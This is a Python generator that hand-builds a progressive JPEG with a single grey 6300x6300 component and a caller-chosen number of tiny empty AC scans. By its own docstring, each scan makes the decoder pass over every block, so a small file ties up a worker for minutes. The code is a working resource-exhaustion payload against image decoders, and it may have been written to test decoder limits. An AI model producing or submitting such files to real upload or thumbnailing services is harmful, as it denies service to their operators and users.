"""A progressive JPEG whose coefficients come in many scans, each a few dozen bytes: the
decoder makes a pass over every block of the picture for each scan, so a small file costs a
worker minutes. Built byte by byte: no encoder writes such a file, which is the point."""

import struct

# One grey component, under the pixel limit (39.7 megapixels): 620,944 blocks of 8x8.
SIDE = 6300
BLOCKS = ((SIDE + 7) // 8) ** 2
# An end-of-band run, in JPEG's progressive AC coding, covers at most this many blocks.
LONGEST_RUN = 32767


def _segment(marker, payload):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


class _Bits:
    """Entropy-coded bits, with the 0x00 JPEG stuffs after every 0xFF byte."""

    def __init__(self):
        self.out, self.byte, self.count = bytearray(), 0, 0

    def put(self, value, length):
        for shift in reversed(range(length)):
            self.byte = (self.byte << 1) | ((value >> shift) & 1)
            self.count += 1
            if self.count == 8:
                self.out.append(self.byte)
                if self.byte == 0xFF:
                    self.out.append(0)
                self.byte, self.count = 0, 0

    def finish(self):
        while self.count:
            self.put(1, 1)
        return bytes(self.out)


def many_scan_jpeg(scans):
    """A valid progressive JPEG: one DC scan, then `scans` empty AC scans of the whole picture."""
    header = [
        b"\xff\xd8",
        _segment(0xDB, b"\x00" + bytes([1] * 64)),
        _segment(0xC2, struct.pack(">BHHB", 8, SIDE, SIDE, 1) + b"\x01\x11\x00"),
        # DC and AC tables of one symbol each, coded as a single 0 bit: a DC difference of 0,
        # and an end-of-band run of 2**14 blocks plus 14 more bits.
        _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00"),
        _segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0"),
        _segment(0xDA, b"\x01\x01\x00\x00\x00\x00"),
    ]
    dc = _Bits()
    for _ in range(BLOCKS):
        dc.put(0, 1)
    ac, left = _Bits(), BLOCKS
    while left:
        run = min(left, LONGEST_RUN)
        ac.put(0, 1)
        ac.put(run - 2**14, 14)
        left -= run
    scan = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + ac.finish()
    return b"".join([*header, dc.finish(), scan * scans, b"\xff\xd9"])
